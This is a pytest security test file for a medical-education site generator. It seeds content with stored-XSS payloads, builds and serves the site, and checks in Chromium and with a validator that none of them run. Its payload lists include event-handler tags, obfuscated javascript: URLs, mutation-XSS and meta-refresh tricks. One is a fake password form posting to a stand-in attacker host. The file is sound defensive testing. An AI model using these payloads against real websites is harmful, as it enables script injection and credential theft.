"""Stored XSS: content seeded with attack payloads in every text field, built, served and opened in Chromium.

Two layers are tested separately:

- ``test_validator_rejects_*``: the schema refuses markup in plain-text fields and anything the sanitizer would
  remove from Markdown fields, so a hostile pull request fails `painguide validate`.
- ``test_no_payload_runs_*``: validation is *bypassed* (the payloads are put into the validated catalog), the
  site is built and served, and every page is opened in Chromium with the CSP switched off (``bypass_csp``).
  Escaping on output and the page sanitizer alone must stop every payload: no dialog, no request to another
  origin, no element with an event handler, ``base``, ``meta`` refresh or foreign script.
"""

# ruff: noqa: RUF001  (fullwidth angle brackets are one of the payloads)
from __future__ import annotations

import contextlib
import json
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from painguide import publish
from painguide.content import validate as validation
from painguide.content.catalog import Catalog
from painguide.content.problems import Problem
from tests.helpers import FIXTURE_CONTENT, MKDOCS, copy_content, serving, shared_build

ATTACKER = "127.0.0.1:9"  # nothing listens there; any request to it is a failure, answered or not

# Families: tags with handlers (slash and attribute-less forms), attribute break-outs, element break-outs,
# base/meta/link/img requests, script URLs (plain, entity- and case-obfuscated), mXSS, template syntax,
# Markdown syntax in plain text, newlines that start a block, and tooltip (title attribute) markup.
PLAIN = [
    "<svg/onload=alert(101)>",
    '"><img src=x onerror=alert(102)>',
    "</title><script>alert(103)</script>",
    f'<base href="http://{ATTACKER}/">',
    f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/phish">',
    "' onmouseover='alert(106)' x='",
    '" autofocus onfocus="alert(107)',
    "[click](javascript:alert(108))",
    "{{ config.site_name }}{% include 'base.html' %}",
    "&lt;img src=x onerror=alert(110)&gt; &#60;svg onload=alert(110)&#62;",
    '<iframe srcdoc="<script>alert(111)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(112)>",
    f"<link rel=stylesheet href=http://{ATTACKER}/x.css>",
    f"<img src=http://{ATTACKER}/track.gif>",
    'Title\n\n!!! danger "Safety alert"\n    <img src=x onerror=alert(115)>',
    'x {: onclick="alert(116)" }',
    "＜script＞alert(117)＜/script＞",
]
MARKDOWN = [
    *PLAIN,
    '[guide](https://example.org "Guide <img/src/onerror=alert(201)>")',
    f"![pixel](http://{ATTACKER}/p.gif)",
    f'<form action="http://{ATTACKER}/steal"><input type="password" name="p"><button>Log in</button></form>',
    "[x](jav&#x61;script:alert(204)) [y](JaVaScRiPt&colon;alert(205)) [z](java\tscript:alert(206))",
    '<a href="data:text/html,<script>alert(207)</script>">d</a>',
    "<details open ontoggle=alert(208)>x</details>",
    '<object data="javascript:alert(209)"></object><embed src="javascript:alert(209)">',
    'Paragraph\n{: onclick="alert(210)" }',
    "<!-- <script>alert(211)</script> -->",
    f"<video><source onerror=alert(212) src=http://{ATTACKER}/v></video>",
]


def _cycle(values: list[str]) -> Iterator[str]:
    while True:
        yield from values


def _seed(cat: Catalog) -> Catalog:
    """The validated catalog with a payload in every plain-text and Markdown field (validation bypassed)."""
    plain, markdown = _cycle(PLAIN), _cycle(MARKDOWN)

    def layer(model: Any) -> Any:
        if model is None:
            return None
        update: dict[str, Any] = {}
        for name, value in model:
            if isinstance(value, str):
                update[name] = (value + " " + next(markdown)) if name not in {"question"} else next(plain)
            elif isinstance(value, list) and value and isinstance(value[0], str):
                update[name] = [
                    next(markdown) if name in {"key_points", "practical_steps", "options", "examples"} else next(plain)
                    for _ in value
                ]
        return model.model_copy(update=update)

    for key, entry in list(cat.entries.items()):
        cat.entries[key] = entry.model_copy(
            update={
                "title": entry.title + " " + next(plain),
                "summary": entry.summary + " " + next(plain),
                "aliases": [next(plain) for _ in range(3)],
                "clinician": layer(entry.clinician),
                "patient": layer(entry.patient),
                "trainer": layer(entry.trainer),
                **({"team": layer(entry.team)} if getattr(entry, "team", None) else {}),
                **({"measure": layer(entry.measure)} if getattr(entry, "measure", None) else {}),
            }
        )
    for key, module in list(cat.modules.items()):
        questions = []
        for q in module.questions:
            choices = [c + " " + next(plain) for c in q.choices]
            answer = choices[q.choices.index(q.answer)]
            questions.append(
                q.model_copy(
                    update={"prompt": next(plain), "choices": choices, "answer": answer, "explanation": next(plain)}
                )
            )
        cat.modules[key] = module.model_copy(
            update={
                "title": module.title + " " + next(plain),
                "summary": module.summary + " " + next(plain),
                "objectives": [o + " " + next(plain) for o in module.objectives],
                "questions": questions,
                "lessons": [lesson.model_copy(update={"focus": next(plain)}) for lesson in module.lessons],
                "vignette": module.vignette.model_copy(
                    update={
                        "title": next(plain),
                        "text": next(markdown),
                        "discussion_prompts": [next(plain) for _ in module.vignette.discussion_prompts],
                    }
                ),
                "assignment": module.assignment.model_copy(
                    update={"title": next(plain), "instructions": next(markdown)}
                ),
            }
        )
    cat.glossary = [
        t.model_copy(
            update={"term": t.term + " " + next(plain), "definition": next(markdown), "synonyms": [next(plain)]}
        )
        for t in cat.glossary
    ]
    for key, source in list(cat.sources.items()):
        cat.sources[key] = source.model_copy(
            update={"title": source.title + " " + next(plain), "note": next(plain), "citation": next(plain)}
        )
    return cat


@pytest.fixture(scope="session")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The seeded fixture content built once per run (shared by pytest-xdist workers)."""
    return shared_build(tmp_path_factory, "xss", _build_hostile) / "build"


def _build_hostile(tmp: Path) -> None:
    root = copy_content(tmp)
    original = validation.validate

    def seeded(path: Path, strict: bool = False) -> tuple[Catalog, list[Problem]]:
        cat, problems = original(path, strict)
        return _seed(cat), problems

    strict_site = publish.build_site

    def lenient_site(*args: Any, **options: Any) -> None:
        # Not strict: the strict build already refuses script links ("unrecognized relative link"); here
        # the page output itself is under test.
        strict_site(*args, **{**options, "strict": False})

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(validation, "validate", seeded)
        patch.setattr(publish, "build_site", lenient_site)
        publish.build(root, tmp / "build", MKDOCS)


class _Dangerous(HTMLParser):
    """Elements and attributes that would run script or make a request, outside the site's own."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {k for k, _ in attrs}
        values = dict(attrs)
        if any(k.startswith("on") for k in names):
            self.found.append(f"<{tag} {sorted(names)}>")
        if tag in {"base", "iframe", "object", "embed", "form", "video", "math", "link", "style", "img", "button"}:
            self.found.append(f"<{tag}>")
        if tag == "input" and (values.get("type") or "text") not in {"radio", "checkbox", "hidden"}:
            self.found.append(f"<input type={values.get('type')}>")
        if tag == "meta" and "http-equiv" in names:
            self.found.append("<meta http-equiv>")
        if (
            tag == "script"
            and not (values.get("src") or "").startswith(("assets/", "../", "search/"))
            and values.get("type") != "application/json"
            and values.get("src")
        ):
            self.found.append(f"<script src={values.get('src')}>")
        for k in ("href", "src", "action"):
            v = (values.get(k) or "").strip().lower().replace("\t", "")
            if v.startswith(("javascript:", "data:text", "vbscript:")) or ATTACKER in v:
                self.found.append(f"<{tag} {k}={v[:40]}>")
        if "<" in (values.get("title") or ""):
            self.found.append(f"<{tag} title with markup>")


def _dangerous(path: Path) -> Counter[str]:
    parser = _Dangerous()
    parser.feed(path.read_text(encoding="utf-8"))
    return Counter(parser.found)


def test_no_payload_survives_into_any_page(hostile_build: Path, built: Path):
    # Material's own markup has forms and its scripts; the same page built from the clean fixture is the
    # baseline, and the hostile build may add nothing to it.
    site = publish.current(hostile_build) / "site"
    clean = publish.current(built) / "site"
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 30
    bad = {}
    for path in pages:
        rel = path.relative_to(site)
        added = _dangerous(path) - (_dangerous(clean / rel) if (clean / rel).exists() else Counter())
        if added:
            bad[str(rel)] = sorted(added)[:5]
    assert not bad, bad
    # and the payloads are on the pages, as text: the seeding did reach them
    home = (site / "treatments" / "medications" / "acetaminophen.html").read_text(encoding="utf-8")
    assert "&lt;svg/onload=alert(101)&gt;" in home or "alert(101)" in home


# The hostile site has ~45 pages at ~2 s each in Chromium (86 s as one test): in batches, so that pytest-xdist
# workers share them. Batch i opens every BATCHES-th page from i; together the batches open every page.
BATCHES = 6


@pytest.fixture(scope="module")
def hostile_server(hostile_build: Path) -> Iterator[str]:
    with serving(hostile_build) as base:
        yield base


def _hostile_pages(hostile_build: Path) -> list[str]:
    site = publish.current(hostile_build) / "site"
    return sorted(str(p.relative_to(site)) for p in site.rglob("*.html"))


def test_the_batches_open_every_page(hostile_build: Path):
    pages = _hostile_pages(hostile_build)
    assert len(pages) > 30
    batches = [pages[batch::BATCHES] for batch in range(BATCHES)]
    assert sorted(p for b in batches for p in b) == pages
    assert all(batches)


@pytest.mark.parametrize("batch", range(BATCHES))
def test_no_payload_runs_in_chromium(browser, hostile_build: Path, hostile_server: str, batch: int):
    base = hostile_server
    pages = _hostile_pages(hostile_build)[batch::BATCHES]
    dialogs: list[str] = []
    offsite: list[str] = []
    context = browser.new_context(base_url=base, bypass_csp=True)  # the page alone must be safe
    context.set_default_timeout(10_000)
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
    own = (base, "data:", "blob:", "about:")
    page.on("request", lambda r: None if r.url.startswith(own) else offsite.append(r.url))
    try:
        for rel in pages:
            page.goto(f"{base}/{rel}", wait_until="load")
            # Material's tooltips render title attributes: hover a few of them
            for element in page.locator("abbr[title], a[title]").all()[:4]:
                # hidden or covered: not a tooltip a reader can see either. Hidden ones are skipped rather than
                # waited for: each page has one, and its hover timeout was half of this test's time (1 s a page).
                if element.is_visible():
                    with contextlib.suppress(Exception):
                        element.hover(timeout=1000)
            page.wait_for_timeout(50)
        assert page.url.startswith(base), f"redirected away to {page.url}"
    finally:
        context.close()
    assert not dialogs, dialogs[:5]
    assert not offsite, offsite[:5]


@pytest.mark.parametrize("payload", PLAIN)
def test_validator_rejects_markup_in_plain_text(tmp_path, payload):
    root = copy_content(tmp_path, FIXTURE_CONTENT)
    path = root / "treatments" / "acetaminophen.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("title: Acetaminophen\n", f"title: {json.dumps(payload)}\n", 1), encoding="utf-8")
    _, problems = validation.validate(root)
    rejected = any(p.field == "title" for p in problems)
    # markup and line breaks are refused; anything else is plain text, shown as typed (escaped on output)
    assert rejected is any(ch in payload for ch in "<>\n"), (payload, [str(p) for p in problems])


MARKDOWN_ONLY = MARKDOWN[len(PLAIN) :]


@pytest.mark.parametrize("payload", [p for p in MARKDOWN if "<" in p and "&lt;" not in p] + MARKDOWN_ONLY)
def test_validator_rejects_payloads_in_markdown(tmp_path, payload):
    root = copy_content(tmp_path, FIXTURE_CONTENT)
    path = root / "treatments" / "acetaminophen.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("  what_it_is: >-\n", f"  what_it_is: {json.dumps(payload)}\n  x_old: >-\n", 1))
    _, problems = validation.validate(root)
    assert any(p.field == "patient.what_it_is" for p in problems), (payload, [str(p) for p in problems])
